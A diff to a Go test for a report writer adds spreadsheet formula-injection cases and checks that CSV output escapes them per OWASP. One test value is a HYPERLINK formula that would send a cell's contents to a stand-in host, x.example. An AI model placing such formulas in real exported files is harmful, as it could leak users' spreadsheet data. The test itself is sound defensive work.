@@ -17,14 +17,22 @@ func TestWriteFormats(t *testing.T) {
 	tbl := report.Table{Headers: []string{"Node", "Description"}}
 	tbl.Add("chem", "a|b, \"c\"")
 	tbl.Add("bio", "line\nbreak")
+	tbl.Add("phys", `=HYPERLINK("http://x.example/?"&A1,"click")`)
+	tbl.Add("-5.00", "+1-2")
+	tbl.Add("@SUM(A1)", "\t=1")
 	for _, tc := range []struct {
 		name string
 		f    report.Format
 		want string
 	}{
-		{"aligned", report.Aligned, "Node  Description\nchem  a|b, \"c\"\nbio   line\\nbreak\n"},
-		{"parsable", report.Parsable, "Node|Description\nchem|a\\x7cb, \"c\"\nbio|line\\nbreak\n"},
-		{"csv", report.CSV, "Node,Description\nchem,\"a|b, \"\"c\"\"\"\nbio,line\\nbreak\n"},
+		{"aligned", report.Aligned, "Node      Description\nchem      a|b, \"c\"\nbio       line\\nbreak\n" +
+			"phys      =HYPERLINK(\"http://x.example/?\"&A1,\"click\")\n-5.00     +1-2\n@SUM(A1)  \\t=1\n"},
+		{"parsable", report.Parsable, "Node|Description\nchem|a\\x7cb, \"c\"\nbio|line\\nbreak\n" +
+			"phys|=HYPERLINK(\"http://x.example/?\"&A1,\"click\")\n-5.00|+1-2\n@SUM(A1)|\\t=1\n"},
+		// A cell a spreadsheet would take for a formula is quoted as text
+		// (OWASP); a number stays one; a tab is already written as text.
+		{"csv", report.CSV, "Node,Description\nchem,\"a|b, \"\"c\"\"\"\nbio,line\\nbreak\n" +
+			"phys,\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"click\"\")\"\n-5.00,'+1-2\n'@SUM(A1),\\t=1\n"},
 	} {
 		t.Run(tc.name, func(t *testing.T) {
 			var out bytes.Buffer
